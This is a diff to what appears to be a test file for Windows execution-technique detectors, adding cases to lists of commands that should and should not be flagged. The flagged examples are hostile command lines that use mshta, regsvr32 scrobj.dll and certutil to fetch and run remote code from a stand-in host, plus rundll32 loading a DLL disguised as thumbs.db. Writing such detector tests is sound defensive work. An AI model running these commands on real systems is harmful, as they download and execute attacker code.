@@ -58,10 +58,12 @@ testFamily(executionDetectors, {
     hits: {
       mshta: [runs('mshta http://x.example/a.hta')],
       squiblydoo: [runs('regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll')],
+      'a library under the name of data': [runs('rundll32 .\\thumbs.db,#1')],
       certutil: [runs('certutil -urlcache -split -f http://x.example/a a.exe')],
     },
     misses: {
       'a library of the program': [runs('regsvr32 /s "C:\\Program Files\\Vendor\\a.ocx"')],
+      'a library by its name alone': [runs('rundll32 user32.dll,LockWorkStation')],
       'a hash': [runs('certutil -hashfile a.exe SHA256')],
       'a control panel': [runs('rundll32.exe shell32.dll,Control_RunDLL desk.cpl')],
     },
